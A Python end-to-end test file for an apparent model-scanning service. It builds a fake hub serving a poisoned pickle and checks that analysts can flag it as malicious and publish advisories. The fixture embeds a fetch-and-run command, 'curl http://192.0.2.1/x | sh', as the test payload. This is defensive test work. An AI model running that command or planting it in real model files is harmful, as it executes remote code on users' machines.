"""A model at a hub, asked for in the browser, scanned there, decided with what the hub tells."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from registry import infected, work

from hub.content import Content, Repository
from hub.server import LoopbackHub
from weighbridge.sources.access import Access, HubAccess

pytestmark = pytest.mark.django_db(transaction=True)
Visit = Callable[..., Any]


@pytest.fixture
def hub(settings: Any) -> Iterator[LoopbackHub]:
    payload = infected("curl http://192.0.2.1/x | sh")
    told = {"model.pkl": {"status": "safe", "pickleImportScan": {"status": "safe"}}}
    repositories = [
        Repository(
            name=f"org/{name}",
            files={
                "model.pkl": Content(payload, lfs=True),
                "config.json": Content(b'{"model_type": "bert"}'),
            },
            about={
                "downloads": downloads,
                "cardData": {"license": "apache-2.0", "base_model": "org/base"},
            },
            security=told,
        )
        for name, downloads in (("net", 51_234), ("fork", 7))
    ]
    with LoopbackHub(repositories) as running:
        settings.WEIGHBRIDGE_HUBS = Access(HubAccess(running.url), HubAccess(running.url))
        running.kaggle.add("owner/net/pyTorch/small/3", {"model.pkl": Content(infected("kaggle"))})
        yield running


def asked(page: Any, target: str) -> None:
    page.goto("/scans")
    page.get_by_label("Model", exact=False).first.fill(target)
    page.get_by_role("button", name="Scan", exact=True).click()
    work()
    page.wait_for_selector("text=finding in")


def test_a_model_of_hugging_face_from_its_name_to_an_msc(hub: LoopbackHub, visit: Visit) -> None:
    ada, bob, visitor = visit("ada"), visit("bob"), visit()
    asked(ada, "hf://org/net")
    asked(ada, "hf://org/fork")

    ada.goto("/queue")
    row = ada.locator("[data-row]").first
    assert "org/net" in row.inner_text() and "51,234" in row.inner_text()
    ada.get_by_role("link", name="Loading it starts a process").click()
    ada.get_by_role("link", name="Others say").click()
    said = ada.locator("table").last.inner_text()
    assert "pickleImport" in said and "safe" in said
    ada.get_by_role("link", name="Where").click()
    where = ada.locator("main").inner_text()
    assert "org/net" in where and "org/fork" in where

    ada.get_by_role("button", name="Claim").click()
    ada.get_by_role("button", name="Begin the analysis").click()
    ada.get_by_label("Reason").first.fill("It fetches a script and runs it.")
    ada.get_by_role("button", name="Propose malicious").click()
    bob.goto(ada.url)
    bob.get_by_role("button", name="Agree", exact=True).click()
    bob.wait_for_selector("text=What was issued stands below")

    visitor.goto("/advisories")
    numbers = visitor.get_by_role("link", name=re.compile(r"MSC-\d{4}-000[12]"))
    assert numbers.count() == 2
    ada.goto("/models")
    ada.get_by_role("link", name="org/net").click()
    told = ada.locator("main").inner_text()
    assert "MSC-" in told and "apache-2.0" in told and "org/base" in told
    assert not any(seen.path.startswith("/org/base") for seen in hub.log)


def test_a_model_of_kaggle_is_in_the_queue(hub: LoopbackHub, visit: Visit) -> None:
    ada = visit("ada")
    asked(ada, "kaggle://owner/net/pyTorch/small")
    ada.goto("/queue?provider=kaggle")
    assert "owner/net/pyTorch/small" in ada.locator("[data-row]").first.inner_text()


def test_a_model_that_is_not_there_is_said_so(hub: LoopbackHub, visit: Visit) -> None:
    ada = visit("ada")
    ada.goto("/scans")
    ada.get_by_label("Model", exact=False).first.fill("hf://org/missing")
    ada.get_by_role("button", name="Scan", exact=True).click()
    work()
    ada.wait_for_selector("text=no such model")
